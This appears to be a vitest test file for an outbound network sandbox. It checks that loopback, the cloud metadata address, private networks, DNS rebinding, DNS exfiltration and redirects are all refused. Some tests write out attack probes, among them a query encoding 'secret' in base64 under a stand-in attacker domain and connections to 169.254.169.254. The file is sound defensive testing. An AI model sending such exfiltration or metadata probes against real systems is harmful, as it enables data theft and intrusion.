import { verifies } from '@gw/test';
import { describe, expect, test } from 'vitest';
import { namespaces, startInside, startNameServer, startTarget, startWeb } from './support.ts';

describe.skipIf(!namespaces)('what an allow-list does not name', () => {
  test('loopback services of the host are not there, by any address', async () => {
    verifies('egress:refused:loopback');
    await using named = await startTarget();
    await using secret = await startTarget(undefined, '127.0.0.1');
    await using inside = await startInside([`127.0.0.2:${named.port}`]);

    for (const host of ['127.0.0.1', 'localhost', '127.0.0.3', '0.0.0.0', '::1', '::ffff:127.0.0.1'])
      await expect(inside.probe('tcp', { host, port: secret.port }), host).rejects.toThrow(/^E/);
    expect(secret.count()).toBe(0);
  });

  test('the port that is named is no way to other addresses at that port', async () => {
    verifies('egress:refused:loopback');
    await using secret = await startTarget(undefined, '127.0.0.1');
    await using inside = await startInside([`127.0.0.2:${secret.port}`, `other.test:${secret.port}`]);

    for (const host of ['127.0.0.1', '127.64.0.1', '0.0.0.0', '::1'])
      await expect(inside.probe('tcp', { host, port: secret.port }), host).rejects.toThrow('ECONNRESET');
    expect(secret.count()).toBe(0);
    expect(inside.logger.lines.map(({ fields }) => fields)).toContainEqual({
      ...{ event: 'egress_refused', service: 'test', target: '127.0.0.1', port: secret.port },
      reason: 'address not allowed',
    });
  });

  test('the metadata address, private networks and the internet have no route', async () => {
    verifies('egress:refused:route');
    await using inside = await startInside(['api.test:443']);

    for (const host of [
      '169.254.169.254',
      '10.0.0.1',
      '192.168.0.1',
      '8.8.8.8',
      'fd00::1',
      '2606:4700::1111',
    ])
      await expect(inside.probe('tcp', { host, port: 80 }), host).rejects.toThrow(/ENETUNREACH|EHOSTUNREACH/);
    await expect(inside.probe('udp', { hex: '00', host: '8.8.8.8' })).resolves.toMatchObject({ answers: 0 });
  });

  test('names that lead to private addresses are refused, unless the address is named, too', async () => {
    verifies('egress:refused:rebinding');
    await using target = await startTarget();
    const { port } = target;
    const names = { 'rebind.test': '127.0.0.2', 'meta.test': '169.254.169.254', 'lan.test': '10.0.0.1' };
    await using dns = await startNameServer(names);
    const allow = Object.keys(names).map(name => `${name}:${port}`);
    await using inside = await startInside(allow, { servers: [dns.server] });

    for (const host of Object.keys(names)) {
      await expect(inside.probe('tcp', { host, port }), host).rejects.toThrow('ECONNRESET');
      expect(inside.logger.lines.map(({ fields }) => fields)).toContainEqual(
        expect.objectContaining({ target: host, port, reason: expect.stringContaining('private address') }),
      );
    }
    expect(target.count()).toBe(0);
  });

  test('other names do not exist, and nobody outside hears that they were asked for', async () => {
    verifies('egress:refused:dns');
    await using dns = await startNameServer({});
    await using inside = await startInside(['api.test:443'], { servers: [dns.server] });

    await expect(inside.probe('lookup', { name: 'secret.attacker.test' })).rejects.toThrow('ENOTFOUND');
    for (const type of ['A', 'AAAA', 'TXT', 'MX', 'CNAME', 'ANY'])
      await expect(inside.probe('dns', { name: 'c2VjcmV0.attacker.test', type }), type).rejects.toThrow();
    await expect(inside.probe('dns', { name: 'c2VjcmV0.api.test', type: 'A' })).rejects.toThrow('ENOTFOUND');
    await expect(inside.probe('dns', { name: 'api.test', type: 'TXT' })).rejects.toThrow('ENODATA');
    // A name that is allowed is not looked up either before something connects to it.
    await inside.probe('lookup', { name: 'api.test' });
    expect(dns.asked).toEqual([]);
  });

  test('a redirect leads nowhere else', async () => {
    verifies('egress:refused:redirect');
    await using secret = await startWeb((_message, response) => response.end('secret'), '127.0.0.1');
    const elsewhere = [`http://other.test:${secret.port}/`, `http://127.0.0.1:${secret.port}/`];
    await using web = await startWeb((message, response) => {
      const location = elsewhere[Number((message.url ?? '').slice(1))];
      response.writeHead(302, { location }).end();
    });
    await using inside = await startInside([`127.0.0.2:${web.port}`]);

    for (const path of ['0', '1'])
      await expect(inside.probe('http', { url: `http://127.0.0.2:${web.port}/${path}` })).rejects.toThrow(
        /^E/,
      );
    for (const path of ['0', '1'])
      expect(
        await inside.probe('http', { url: `http://127.0.0.2:${web.port}/${path}`, proxied: true }),
      ).toMatchObject({ status: 403 });
    expect(secret.count()).toBe(0);
  });
});
